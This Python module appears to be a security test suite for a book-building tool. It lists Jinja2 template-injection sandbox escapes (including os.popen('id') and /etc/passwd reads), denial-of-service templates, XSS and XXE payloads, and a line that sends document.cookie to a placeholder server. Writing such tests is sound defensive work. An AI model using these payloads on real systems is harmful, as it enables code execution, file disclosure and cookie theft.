"""Templates of the book that look for a way out of their sandbox, or put programs into pages."""

from collections.abc import Iterator

from attacks.attack import Attack, Content

_PLACE = "templates/sections/chapter.html.j2"
_PAGE = '<section id="{{{{ section.id }}}}" class="division">{}{{{{ body }}}}</section>'
_OUT = {
    "class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "class-attr": "{{ ''|attr('__class__') }}",
    "class-attr-built": "{{ ''|attr('__cl' ~ 'ass__') }}",
    "class-item": "{{ ''['__class__'] }}",
    "class-map": "{{ ['']|map(attribute='__class__')|list }}",
    "class-group": "{{ ['']|groupby('__class__') }}",
    "class-sort": "{{ ['']|sort(attribute='__class__.__name__') }}",
    "class-sum": "{{ ['']|sum(attribute='__class__', start='') }}",
    "class-select": "{{ ['']|selectattr('__class__')|list }}",
    "class-unique": "{{ ['']|unique(attribute='__class__.__mro__')|list }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(section) }}",
    "format-map": "{{ '{a.__class__}'.format_map({'a': section}) }}",
    "format-filter": "{{ '%s %r'|format(section, section) }}",
    "format-markup": "{{ ('{0.__class__}'|safe).format(section) }}",
    "format-method": "{% set f = '{0.__class__.__mro__}'.format %}{{ f(1) }}",
    "format-map-filter": "{{ ['{0.__class__}']|map('format', section)|list }}",
    "format-call": "{{ ''.join(['{0.__class__}'.format(1)]) }}",
    "globals": "{{ self.__init__.__globals__ }}",
    "globals-function": "{{ range.__globals__ }} {{ lipsum.__globals__['os'] }} {{ cycler.__init__.__globals__ }}",
    "joiner": "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "namespace": "{{ namespace.__init__.__globals__ }}",
    "macro": "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}{% endcall %}",
    "macro-code": "{% macro m() %}{% endmacro %}{{ m._func.__code__ }}",
    "loop": "{% for x in [1] %}{{ loop.__init__.__globals__ }}{{ loop._iterator }}{% endfor %}",
    "undefined": "{{ nothing.__init__ }}",
    "environment": "{{ environment }} {{ self._TemplateReference__context }} {{ context.environment }}",
    "self": "{{ self }} {{ self.blocks }} {{ self._TemplateReference__context.environment.loader }}",
    "caller": "{{ caller }}",
    "generator": "{% set g = (x for x in []) %}{{ g.gi_frame }}",
    "mro": "{{ section.__mro__ }} {{ section.__dict__ }} {{ section.__slots__ }}",
    "import-name": "{% import 'os' as os %}{{ os.system('id') }}",
    "include-python": "{% include '/etc/passwd' %}",
    "include-null": "{% include 'sections/chapter.html.j2\\0' %}",
    "include-list": "{% include ['../book.yaml', '/etc/passwd', '../../outside/secret.html.j2'] ignore missing %}",
    "from-outside": "{% from '../../outside/secret.html.j2' import x %}",
    "debug": "{% debug %}",
    "do": "{% do section.clear() %}",
    "set-attribute": "{% set section.id = 'x' %}",
    "pprint": "{{ section|pprint }}",
    "pprint-edition": "{{ edition|pprint }}",
    "string": "{{ section|string }}",
    "text": "{{ section }}",
    "tilde": "{{ '' ~ section ~ range }}",
    "join": "{{ [section, range]|join }}",
    "repr-list": "{{ [range, section] }} {{ {'a': range} }}",
    "repr-macro": "{% macro m() %}{% endmacro %}{{ m }} {{ [m] }}",
    "repr-loop": "{% for x in [1] %}{{ loop }}{% endfor %}",
    "repr-module": "{% import 'macros/headings.html.j2' as h %}{{ h }} {{ [h] }}",
    "repr-percent": "{{ '%s' % section }} {{ '%r' % [range] }}",
    "repr-function": "{{ body.upper }} {{ ''.join }} {{ [].append }}",
    "repr-filter": "{{ [heading, label, terms]|map('string')|join }}",
    "tojson": "{{ section|tojson }}",
    "xmlattr": "{{ {'a onclick=alert(1)': section}|xmlattr }}",
    "urlize": "{{ 'javascript:alert(1) http://x'|urlize(target='\"><script>') }}",
    "filesize": "{{ range|filesizeformat }}",
    "random": "{{ range(1000000)|random }}",
    "now": "{{ now() }} {{ section.date.today() }} {{ edition.date.today() }}",
    "date-static": "{{ (book or edition).date.fromtimestamp(0) }}",
    "hash": "{{ ''.__hash__() }} {{ section|hash }}",
    "id": "{{ section.__repr__() }}",
    "encode": "{{ 'x'.encode('utf-8').decode('idna') }}",
    "maketrans": "{{ ''.maketrans('a', 'b') }}",
    "int-methods": "{{ (1).to_bytes(1000000000, 'big') }}",
    "surrogate": "{{ '\\ud800' }}",
    "nul": "{{ '\\x00\\x1b' }}",
    "settings": "{{ settings }} {{ settings.book }} {{ manuscript }} {{ section.span.file }}",
}  # fmt: skip
_HEAVY = {
    "range": "{% for i in range(100000000) %}x{% endfor %}",
    "range-nested": "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
    "product": "{{ 'x' * 10000000000 }}",
    "power": "{{ 9 ** 9 ** 9 }}",
    "center": "{{ 'x'.center(10000000000) }} {{ 'x'|center(10000000000) }}",
    "ljust": "{{ 'x'.ljust(10000000000) }} {{ 'x'.zfill(10000000000) }}",
    "format-width": "{{ '{:>10000000000}'.format(1) }}",
    "percent-width": "{{ '%10000000000d' % 1 }}",
    "percent-filter": "{{ '%10000000000d'|format(1) }}",
    "indent": "{{ 'x'|indent(10000000000, true) }}",
    "lipsum": "{{ lipsum(1000000) }}",
    "replace": "{% set x = 'a' * 1000 %}{{ x.replace('a', 'b' * 1000).replace('b', 'c' * 1000).replace('c', 'd' * 1000) }}",
    "join-growing": "{% set n = namespace(x='aaaaaaaaaa') %}{% for i in range(40) %}{% set n.x = n.x ~ n.x %}{% endfor %}{{ n.x }}",
    "list-growing": "{% set n = namespace(x=[1]) %}{% for i in range(40) %}{% set n.x = n.x + n.x %}{% endfor %}{{ n.x|length }}",
    "recursion": "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}",
    "include-itself": "{% include 'sections/chapter.html.j2' %}",
    "extends-itself": "{% extends 'sections/chapter.html.j2' %}",
    "loop-recursive": "{% for x in [[]] recursive %}{{ loop([x]) }}{% endfor %}",
    "batch": "{{ [1]|batch(1000000000, 0)|list|length }}",
    "slice": "{{ [1]|slice(1000000000)|list|length }}",
    "wordwrap": "{{ ('a ' * 400000)|wordwrap(1)|length }}",
    "splitlines": "{{ ('a\\n' * 400000).splitlines()|length }}",
    "expandtabs": "{{ '\\t'.expandtabs(10000000000) }}",
    "brackets": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "sum": "{{ range(99999)|map('string')|join|list|permutations }}",
    "tree": "<p>" * 100_000,
    "colspan": "<table><tr><td colspan='100000000'>a</td></tr></table>",
    "rowspan": "<table><tr><td rowspan='100000000'>a</td></tr></table>",
}  # fmt: skip
_ACTIVE = {
    "script": "<script>alert(1)</script>",
    "script-src": '<script src="@SERVER@/x.js"></script>',
    "script-safe": "{{ '<script>alert(1)</script>'|safe }}",
    "script-other-case": "<SCRIPT>alert(1)</SCRIPT>",
    "handler": '<p onclick="alert(1)">x</p>',
    "iframe": '<iframe src="@SERVER@/f"></iframe>',
    "img-remote": '<img src="@SERVER@/i.png" alt=""/>',
    "img-file": '<img src="@OUTSIDE@/secret.svg" alt=""/>',
    "img-up": '<img src="../../../outside/secret.svg" alt=""/>',
    "srcset": '<img src="x.png" srcset="@SERVER@/i.png 2x" alt=""/>',
    "link-javascript": '<a href="javascript:alert(1)">x</a>',
    "link-tab": '<a href="java&#9;script:alert(1)">x</a>',
    "form": '<form action="@SERVER@/f"><button>x</button></form>',
    "base": '<base href="@SERVER@/"/>',
    "meta": '<meta http-equiv="refresh" content="0;url=@SERVER@/m"/>',
    "link": '<link rel="stylesheet" href="@SERVER@/l.css"/>',
    "style": "<style>@import '@SERVER@/s.css';</style>",
    "style-attribute": '<p style="background:url(@SERVER@/b)">x</p>',
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "svg-use": '<svg xmlns="http://www.w3.org/2000/svg"><use href="@SERVER@/u.svg#a"/></svg>',
    "math": '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:alert(1)">x</mi></math>',
    "object": '<object data="@SERVER@/o"></object>',
    "embed": '<embed src="@SERVER@/e"/>',
    "video": '<video src="@SERVER@/v"></video>',
    "trigger": '<ev:trigger xmlns:ev="http://www.w3.org/2001/xml-events" xmlns="http://www.idpf.org/2007/ops"/>',
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "@OUTSIDE@/secret.txt">]><p>&x;</p>',
    "entity": "<p>&xxe;</p>",
    "instruction": '<?xml-stylesheet href="@SERVER@/x.css"?>',
    "include": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="@OUTSIDE@/secret.txt" parse="text"/>',
    "unclosed": "<p><b>x</p>",
    "attachment": '<link rel="attachment" href="@OUTSIDE@/secret.txt"/><a rel="attachment" href="@OUTSIDE@/secret.txt">x</a>',
    "pdf-form": '<form><input type="text" name="a" value="b"/></form>',
}  # fmt: skip
_OTHERS = ("sections/title-page.html.j2", "elements/note.html.j2", "macros/headings.html.j2", "epub/page.xhtml.j2", "epub/nav.xhtml.j2", "epub/toc.ncx.j2", "epub/cover.xhtml.j2", "site/page.html.j2", "site/frame.html.j2", "site/search.js", "site/icon.svg.j2", "site/sitemap.xml.j2", "print/furniture.html.j2", "print/edition.css.j2", "cover.html.j2", "report/accessibility.html.j2", "epub/summary.en.txt.j2")  # fmt: skip
_OPTIONS = ("--epub", "--pdf", "--web", "--no-check")
_BROKEN = ("template-broken", "template-xml")


def _attacks() -> Iterator[Attack]:
    for name, text in _OUT.items():
        yield Attack(
            f"template-{name}",
            {_PLACE: _PAGE.format(text)},
            absent=("<class ", "__main__", "<function ", "<built-in"),
            options=("--epub", "--no-check"),
        )
    for name, text in _HEAVY.items():
        yield Attack(
            f"template-heavy-{name}",
            {_PLACE: _PAGE.format(text)},
            options=("--epub", "--pdf", "--no-check") if "span" in name else ("--epub", "--no-check"),
            seconds=90,
        )
    for name, text in _ACTIVE.items():
        yield Attack(f"template-active-{name}", {_PLACE: _PAGE.format(text)}, options=_OPTIONS, paths=False)
    for place in _OTHERS:
        text = '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script><p onclick="alert(1)">@import "@SERVER@/a";</p>'
        files: dict[str | bytes, Content] = {f"templates/{place}": text}
        options = (
            (*_OPTIONS[:-1], "--cover", "--no-check")
            if place in ("cover.html.j2", "print/cover.html.j2")
            else _OPTIONS
        )
        yield Attack(f"template-place-{place}", files, "front: [title-page]\n", options=options)
    yield Attack(
        "template-js",
        {"templates/site/search.js": "fetch('@SERVER@/'+document.cookie)"},
        options=("--web", "--no-check"),
    )


ATTACKS = tuple(_attacks())
